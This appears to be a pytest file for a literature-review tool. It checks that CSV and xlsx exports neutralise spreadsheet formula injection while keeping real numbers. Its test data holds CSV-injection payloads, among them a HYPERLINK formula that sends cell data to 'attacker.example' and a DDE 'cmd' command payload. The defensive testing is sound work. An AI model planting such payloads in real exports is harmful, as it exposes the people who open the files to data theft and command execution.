"""CSV/xlsx exports: text that a spreadsheet would run as a formula is neutralised (OWASP's CSV
injection rule), real numbers, negative ones included, are left as they are.

The hostile values go in where they come from in real use (a record's title and authors from an
export, a search run's source, a colleague's note and reason, a study label, an extraction value)
and every export is read back: CSV with the ``csv`` module, xlsx with openpyxl and as its XML.
"""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl
import pytest
from sqlmodel import col, delete, select, update

from reviewflow.cells import dangerous, safe_cell, unquote
from reviewflow.store import open_store
from reviewflow.store.models import ConsensusValue, Decision, Record, SearchRun, Study
from reviewflow.workspace import Workspace
from tests.conftest import run_cli
from tests.report.builder import WRONG_DESIGN, build_review

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A2,"click")'
CMD = "=cmd|' /C calc'!A0"
PLUS = "+SUM(1,2)"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(A1:A9)"
TAB = "\t=1+1"
CR = "\r=1+1"
FULLWIDTH = "\uff1d1+1"
HOSTILE = [HYPERLINK, CMD, PLUS, MINUS, AT, TAB, CR, FULLWIDTH]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_a_quote(text: str) -> None:
    assert dangerous(text) and safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-0.49", "-12", "+3", "-1e-5", "-.5", "1.5", -0.49, -3, "a=b",
                                   "", "Smith - Jones", "'quoted'", "'-12"])  # fmt: skip
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("text", [*HOSTILE, "-12", "Smith", "'quoted'", "'=already quoted", ""])
def test_unquote_undoes_safe_cell(text: str) -> None:
    assert unquote(safe_cell(text)) == text


def test_unquote_takes_exactly_one_quote_and_only_before_a_formula() -> None:
    assert safe_cell("'=already quoted") == "''=already quoted"  # a spreadsheet shows '=…
    assert unquote("''=1+1") == "'=1+1"
    assert unquote("'-12") == "'-12" and unquote("'Smith") == "'Smith"


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def _assert_safe(rows: list[dict[str, str]], where: str) -> None:
    for i, row in enumerate(rows):
        for key, value in row.items():
            assert not dangerous(value or ""), (where, i, key, value)


@pytest.fixture
def hostile(sqlite_workspace: Workspace) -> Workspace:
    store = open_store(sqlite_workspace.database_url())
    try:
        ids = build_review(store)
        with store.write() as s:
            first = ids["included"][0]
            rec = s.get(Record, first)
            assert rec is not None
            rec.title, rec.authors, rec.journal = HYPERLINK, [AT, "Smith J"], TAB
            s.execute(update(Decision).where(col(Decision.record_id) == first).values(note=CMD))
            s.execute(update(Decision).where(col(Decision.reason) == WRONG_DESIGN)
                      .values(reason=PLUS))  # fmt: skip
            run = s.execute(select(SearchRun).order_by(col(SearchRun.id))).scalars().first()
            assert run is not None
            run.source, run.query = CR, MINUS
            study = s.execute(select(Study).where(col(Study.label) == "Study A 1998")).scalars()
            st = study.one()
            st.label = FULLWIDTH
            assert st.id is not None
            for field, value in (("country", CMD), ("stent_device", MINUS), ("mean_age", "-0.5"),
                                 ("nihss_mean", "-12"), ("centres", "-3")):  # fmt: skip
                s.add(ConsensusValue(study_id=st.id, field=field, value=value, source="imported"))
    finally:
        store.dispose()
    return sqlite_workspace


def test_csv_exports_neutralise_formulas(hostile: Workspace, tmp_path: Path) -> None:
    root = hostile.root
    records, decisions, extraction = (tmp_path / n for n in ("r.csv", "d.csv", "e.csv"))
    for args in (
        ("export", "records", "--format", "csv", "--out", str(records)),
        ("export", "decisions", "--format", "csv", "--out", str(decisions)),
        ("export", "extraction", "--format", "csv", "--out", str(extraction)),
        ("report", "--out", str(tmp_path / "report")),
    ):
        code, _out, err = run_cli(*args, cwd=root)
        assert code == 0, (args, err)

    rows = _cells(records)
    _assert_safe(rows, "records")
    row = next(r for r in rows if r["title"] == "'" + HYPERLINK)
    assert row["authors"].startswith("'" + AT) and row["journal"] == "'" + TAB
    assert any(r["source"].startswith("'" + CR) for r in rows)

    rows = _cells(decisions)
    _assert_safe(rows, "decisions")
    assert {r["note"] for r in rows} >= {"'" + CMD} and "'" + PLUS in {r["reason"] for r in rows}

    rows = _cells(extraction)
    _assert_safe(rows, "extraction")
    row = next(r for r in rows if r["study"] == "'" + FULLWIDTH)
    assert (row["country"], row["stent_device"]) == ("'" + CMD, "'" + MINUS)
    assert (row["mean_age"], row["nihss_mean"], row["centres"]) == ("-0.5", "-12", "-3")  # as typed

    report = tmp_path / "report"
    for name in ("search_log.csv", "included_studies.csv", "extraction.csv"):
        _assert_safe(_cells(report / name), name)
    assert "'" + MINUS in {r["query"] for r in _cells(report / "search_log.csv")}
    assert "'" + HYPERLINK in {r["title"] for r in _cells(report / "included_studies.csv")}
    app = {r["data"]: r["n"] for r in _cells(report / "prisma2020_app.csv")}
    assert app["dbr_excluded"].startswith("'+SUM(1/2), 2;")  # the app's format has no commas


def test_xlsx_export_keeps_text_as_text(hostile: Workspace, tmp_path: Path) -> None:
    out = tmp_path / "extraction.xlsx"
    code, _out, err = run_cli("export", "extraction", "--format", "xlsx", "--out", str(out),
                              cwd=hostile.root)  # fmt: skip
    assert code == 0, err
    with zipfile.ZipFile(out) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    ws = openpyxl.load_workbook(out).active
    assert ws is not None
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == FULLWIDTH)
    cell = dict(zip(header, row, strict=True))
    for key, text in (("study", FULLWIDTH), ("country", CMD), ("stent_device", MINUS)):
        c = cell[key]
        assert (c.value, c.data_type, c.quotePrefix) == (text, "s", True), key  # unchanged text
    assert (cell["mean_age"].value, cell["mean_age"].data_type) == (-0.5, "n")
    assert (cell["centres"].value, cell["centres"].data_type) == (-3, "n")


def test_standalone_dedup_ids_are_neutralised(tmp_path: Path) -> None:
    data = tmp_path / "in.csv"
    title = "Celecoxib versus naproxen in osteoarthritis: a randomised trial"
    with data.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "title", "year", "journal"])
        w.writerow([CMD, title, "2001", "Lancet"])
        w.writerow([AT, title, "2001", "Lancet"])
        w.writerow(["-7", "Another title entirely about ibuprofen", "1999", "BMJ"])
    out = tmp_path / "groups.csv"
    code, _out, err = run_cli("dedup", str(data), "--id-column", "id", "--out", str(out))
    assert code == 0, err
    rows = _cells(out)
    _assert_safe(rows, "groups.csv")
    assert [r["record_id"] for r in rows] == ["'" + CMD, "'" + AT, "-7"]
    assert {r["group_id"] for r in rows} <= {r["record_id"] for r in rows}


def _consensus(ws: Workspace) -> dict[tuple[str, str], str]:
    store = open_store(ws.database_url())
    try:
        with store.read() as s:
            rows = s.execute(select(Study.label, ConsensusValue.field, ConsensusValue.value)
                             .join(Study, col(Study.id) == col(ConsensusValue.study_id))).all()  # fmt: skip
    finally:
        store.dispose()
    return {(label, field): value for label, field, value in rows}


def test_an_exported_sheet_imports_back_unchanged(hostile: Workspace, tmp_path: Path) -> None:
    store = open_store(hostile.database_url())
    try:  # the fixture's negative numbers (stored unchecked) are out of range for the form
        with store.write() as s:
            s.execute(delete(ConsensusValue).where(
                col(ConsensusValue.field).in_(["mean_age", "nihss_mean", "centres"]),
                col(ConsensusValue.value).startswith("-")))  # fmt: skip
    finally:
        store.dispose()
    sheet = tmp_path / "extraction.csv"
    code, _out, err = run_cli("export", "extraction", "--format", "csv", "--out", str(sheet),
                              cwd=hostile.root)  # fmt: skip
    assert code == 0, err
    assert "'" + CMD in sheet.read_text(encoding="utf-8")  # neutralised on the way out
    before = _consensus(hostile)
    assert before[(FULLWIDTH, "country")] == CMD and before[(FULLWIDTH, "stent_device")] == MINUS
    code, out, err = run_cli("extraction", "import", str(sheet), cwd=hostile.root)
    assert code == 0, err
    assert _consensus(hostile) == before  # no study "'＝1+1", no value "'=cmd…"
